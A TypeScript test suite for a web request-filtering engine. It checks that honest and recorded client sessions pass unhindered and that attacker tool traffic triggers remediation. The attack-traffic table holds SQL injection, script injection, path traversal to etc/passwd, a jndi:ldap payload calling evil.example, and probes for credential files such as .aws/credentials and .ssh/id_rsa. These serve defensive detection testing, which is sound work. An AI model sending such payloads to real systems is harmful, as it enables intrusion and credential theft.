import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { loadConfig } from '@postern/config'
import { type RequestSource, VirtualClock } from '@postern/core'
import { buildEngine } from '../src/engine/build-engine.ts'
import { memoryResources } from '../src/resources/open-resources.ts'
import { API_SESSIONS } from './honest/api-sessions.ts'
import { FILE_SESSIONS } from './honest/file-sessions.ts'
import { PACKAGE_SESSIONS } from './honest/package-sessions.ts'
import { SITE_SESSIONS } from './honest/site-sessions.ts'
import { HONEST_SESSIONS, type HonestRequest } from './honest-sessions.ts'

const ALL: Readonly<Record<string, readonly HonestRequest[]>> = {
  ...HONEST_SESSIONS,
  ...API_SESSIONS,
  ...FILE_SESSIONS,
  ...PACKAGE_SESSIONS,
  ...SITE_SESSIONS,
}

const CLIENT = '203.0.113.7'

function sourceOf({ method, target, headers, body }: HonestRequest): RequestSource {
  const bytes = new TextEncoder().encode(body ?? '')
  return {
    method,
    target,
    headers: [
      'Host',
      'shop.example',
      ...(body === undefined ? [] : ['Content-Length', `${bytes.length}`]),
      ...headers,
    ],
    peer: CLIENT,
    secure: false,
    httpVersion: '1.1',
    body:
      body === undefined
        ? undefined
        : { read: async limit => ({ bytes: bytes.subarray(0, limit), complete: bytes.length <= limit }) },
    native: undefined,
  }
}

/** What the default configuration did to a session, at a multiple of the speed at which it was recorded. */
async function outcomeOf(
  session: readonly HonestRequest[],
  speed: number,
): Promise<{ refused: string[]; measures: string[] }> {
  const clock = new VirtualClock()
  const loaded = await loadConfig({ config: {}, folder: '/nowhere', environment: {} })
  const resources = await memoryResources(loaded, clock)
  const { engine } = buildEngine(loaded, resources, 'serve')
  const refused: string[] = []
  const measures = new Set<string>()
  engine.listen(event => {
    if (event.type === 'finding' && event.data?.['measure'] !== undefined)
      measures.add(String(event.data['scenario']))
  })
  let now = 0
  for (const request of [...session].sort((a, b) => a.at - b.at)) {
    const at = request.at / speed
    clock.advance(Math.max(0, at - now))
    now = Math.max(now, at)
    const exchange = engine.open(sourceOf(request))
    const decision = await engine.decide(exchange)
    if (decision.effect !== 'allow' && !(request.content !== undefined && decision.guard === 'inspect'))
      refused.push(`${request.method} ${request.target}: ${decision.reasons[0].rule}`)
    const status = decision.effect === 'allow' ? request.status : decision.status
    engine.settle(exchange, { status, duration: 5, bytes: 500, aborted: false })
  }
  for (const { origin, actor } of resources.remediations.list())
    measures.add(`${origin} against ${actor.kind}`)
  await resources.close()
  return { refused, measures: [...measures] }
}

describe('honest sessions meet no refusal and no ban of the default configuration', () => {
  for (const [name, session] of Object.entries(ALL)) {
    for (const speed of [1, 4]) {
      test(`${name}, at ${speed} times its speed`, async () => {
        const { refused, measures } = await outcomeOf(session, speed)
        assert.deepEqual({ refused: refused.slice(0, 3), measures }, { refused: [], measures: [] })
      })
    }
  }

  test('there are at least eighty kinds of them', () => assert.ok(Object.keys(ALL).length >= 80))
})

/** Sessions of real clients with real servers, as `e2e/record-sessions.ts` wrote them down. */
const RECORDED = join(import.meta.dirname, 'recorded')

function recordedSession(file: string): readonly HonestRequest[] {
  const lines = readFileSync(join(RECORDED, file), 'utf8').trim().split('\n')
  return lines.map((line): HonestRequest => JSON.parse(line))
}

describe('recorded sessions of real clients meet no refusal and no ban of the default configuration', () => {
  const files = readdirSync(RECORDED).filter(file => file.endsWith('.ndjson'))
  for (const file of files) {
    for (const speed of [1, 4]) {
      test(`${file.replace('.ndjson', '').replaceAll('-', ' ')}, at ${speed} times its speed`, async () => {
        const { refused, measures } = await outcomeOf(recordedSession(file), speed)
        assert.deepEqual({ refused: refused.slice(0, 3), measures }, { refused: [], measures: [] })
      })
    }
  }

  test('are of at least twelve clients, with at least ten requests each', () => {
    assert.ok(files.length >= 12)
    for (const file of files) assert.ok(recordedSession(file).length >= 10, file)
  })
})

/** Requests of tools as they send them, without what names them: the agent is a library's. */
const TOOLS: Readonly<Record<string, (n: number) => Partial<HonestRequest>>> = {
  'a search for names of pages': n => ({
    target: `/${['admin', 'backup', 'old', 'test', 'dev'][n % 5]}-${n}`,
    status: 404,
  }),
  'a search for files that should not be served': n => ({
    target: `/${['.git/config', '.env', '.aws/credentials', '.htpasswd', 'dump.sql', 'backup.zip', '.ssh/id_rsa'][n % 7]}?${n}`,
    status: 404,
  }),
  'SQL injection into an id': n => ({
    target: `/products?id=1%27%20UNION%20ALL%20SELECT%20NULL%2C${n}--%20`,
    status: 500,
  }),
  'SQL injection into a field of search': n => ({
    target: `/search?q=1%27%20UNION%20ALL%20SELECT%20NULL%2C${n}--%20`,
  }),
  'script into every parameter': n => ({ target: `/products?p${n}=%3Cscript%3Ealert(${n})%3C/script%3E` }),
  'directories climbed': n => ({ target: `/download?name=${'..%2f'.repeat((n % 8) + 1)}etc%2fpasswd${n}` }),
  'payloads of known exploits': n => ({ target: `/?x${n}=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2F${n}%7D` }),
  'passwords guessed': n => ({ method: 'POST', target: n % 2 === 0 ? '/login' : '/signin', status: 401 }),
  'ids of others, counted': n => ({ target: `/api/invoices/${n + 1}`, status: n % 3 === 0 ? 200 : 403 }),
}

function attack(
  make: (n: number) => Partial<HonestRequest>,
  headers: readonly string[],
): readonly HonestRequest[] {
  return Array.from({ length: 120 }, (_, n) => ({
    at: n * 200,
    method: 'GET',
    target: '/',
    status: 200,
    headers: ['User-Agent', 'python-requests/2.32', ...headers],
    ...make(n),
  }))
}

describe('tools of attackers meet a remediation of the default configuration', () => {
  for (const [name, make] of Object.entries(TOOLS)) {
    test(name, async () => {
      const { measures } = await outcomeOf(attack(make, []), 1)
      assert.notDeepEqual(measures, [])
    })
  }

  // Anybody can send a header, and get the front page with it.
  for (const name of ['a search for names of pages', 'a search for files that should not be served'])
    for (const headers of [
      ['Authorization', 'Bearer made-up'],
      ['X-API-Key', 'made-up'],
      ['Cookie', 'session=made-up-by-the-tool'],
    ])
      test(`${name}, with a made-up ${headers[0]}, after the front page`, async () => {
        const session = attack(TOOLS[name] ?? (() => ({})), headers)
        const front = { at: 0, method: 'GET', target: '/', status: 200, headers: session[0]?.headers ?? [] }
        const { measures } = await outcomeOf([front, ...session], 1)
        assert.notDeepEqual(measures, [])
      })
})
